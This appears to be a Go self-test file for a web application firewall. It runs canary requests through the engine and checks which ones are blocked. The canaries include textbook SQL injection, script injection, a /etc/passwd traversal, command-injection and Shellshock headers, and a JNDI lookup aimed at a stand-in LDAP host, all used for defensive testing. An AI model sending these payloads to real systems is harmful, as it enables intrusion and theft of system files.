package waf

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"slices"

	"github.com/palisade-security/palisade/model"
	"github.com/palisade-security/palisade/proxy"
	"github.com/palisade-security/palisade/proxy/field"
)

// canary is a request whose verdict is known.
type canary struct {
	name    string
	method  string
	query   string
	header  field.Field
	content string
	body    string
	tag     string // a rule with this tag must match and the request be blocked; "" must pass without a match
}

// allCanaries are textbook attacks in the places where attacks come in, and two requests that harm nobody.
func allCanaries() []canary {
	const (
		form = "application/x-www-form-urlencoded"
		json = "application/json"
	)
	return []canary{
		{name: "SQL injection in the query", method: "GET", query: "id=1%27%20OR%20%271%27%3D%271%27%20--%20", tag: "attack-sqli"},
		{name: "cross-site scripting in the query", method: "GET", query: "q=%3Cscript%3Ealert(1)%3C/script%3E", tag: "attack-xss"},
		{name: "file inclusion in the query", method: "GET", query: "file=../../../../etc/passwd", tag: "attack-lfi"},
		{name: "command injection in the query", method: "GET", query: "host=1.1.1.1%3B%20cat%20/etc/passwd", tag: "attack-rce"},
		{name: "SQL injection in a form", method: "POST", content: form, body: "id=1%27+UNION+SELECT+password+FROM+users+--+", tag: "attack-sqli"},
		{name: "SQL injection in JSON", method: "POST", content: json, body: `{"a":{"id":"1' UNION SELECT password FROM users -- "}}`, tag: "attack-sqli"},
		{name: "cross-site scripting in JSON", method: "POST", content: json, body: `{"note":"<script>alert(1)</script>"}`, tag: "attack-xss"},
		{name: "command injection in a header", method: "GET", header: field.Field{Name: "User-Agent", Value: "() { :;}; /bin/cat /etc/passwd"}, tag: "attack-rce"},
		{name: "lookup injection in a header", method: "GET", header: field.Field{Name: "Referer", Value: "${jndi:ldap://198.51.100.1/a}"}, tag: "attack-rce"},
		{name: "a plain read", method: "GET", query: "page=2&sort=name"},
		{name: "a plain order", method: "POST", content: json, body: `{"item":"teapot","count":2,"note":"please ring twice"}`},
	}
}

func (c *canary) request() *proxy.Request {
	r := &proxy.Request{
		ID: "self-test", Method: c.method, Scheme: "https", Host: "canary.invalid", Path: "/canary",
		RawQuery: c.query, Proto: "HTTP/1.1", Client: netip.AddrFrom4([4]byte{192, 0, 2, 1}),
	}
	r.Header.Add("Host", "canary.invalid")
	r.Header.Add("Accept", "*/*")
	r.Header.Add("User-Agent", "Mozilla/5.0")
	if c.content != "" {
		r.Header.Add("Content-Type", c.content)
		r.Header.Add("Content-Length", fmt.Sprint(len(c.body)))
	}
	if c.header.Name != "" {
		r.Header.Set(c.header.Name, c.header.Value)
	}
	return r
}

// canaries returns an error for each canary that the engine judges wrongly.
func canaries(ctx context.Context, e Engine) error {
	var errs []error
	for _, c := range allCanaries() {
		v, err := e.Inspect(ctx, c.request(), []byte(c.body))
		switch {
		case err != nil:
			errs = append(errs, fmt.Errorf("inspecting the canary %q: %w", c.name, err))
		case c.tag == "" && (v.Blocked || len(v.Matches) > 0):
			errs = append(errs, fmt.Errorf("the canary %q is harmless, yet rules matched", c.name))
		case c.tag != "" && (!v.Blocked || !v.tagged(c.tag)):
			errs = append(errs, fmt.Errorf("the canary %q was not caught", c.name))
		}
	}
	return errors.Join(errs...)
}

func (v *Verdict) tagged(tag string) bool {
	for i := range v.Matches {
		if slices.Contains(v.Matches[i].Tags, tag) {
			return true
		}
	}
	return false
}

// answerCanaries returns an error for each known answer that the default settings judge wrongly.
func (c *Compiler) answerCanaries(ctx context.Context, standard model.WAF) error {
	standard.Answers = new(true)
	e, err := c.engine(standard)
	if err != nil {
		return fmt.Errorf("compiling the core rule set for answers: %w", err)
	}
	const leak, plain = "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version", "one teapot"
	return errors.Join(answerCanary(ctx, e, leak, true), answerCanary(ctx, e, plain, false))
}

func answerCanary(ctx context.Context, e *corazaEngine, body string, blocked bool) error {
	r := (&canary{method: "GET"}).request()
	x, _, err := e.open(ctx, r, nil)
	if err != nil {
		return fmt.Errorf("inspecting an answer's canary: %w", err)
	}
	header := field.List{{Name: "Content-Type", Value: "text/plain"}}
	v, err := x.Answer(200, r.Proto, header, func() ([]byte, error) { return []byte(body), nil })
	if err = errors.Join(err, x.Close()); err != nil {
		return fmt.Errorf("inspecting an answer's canary: %w", err)
	}
	if v.Blocked != blocked {
		return fmt.Errorf("the answer %q was judged wrongly", body)
	}
	return nil
}
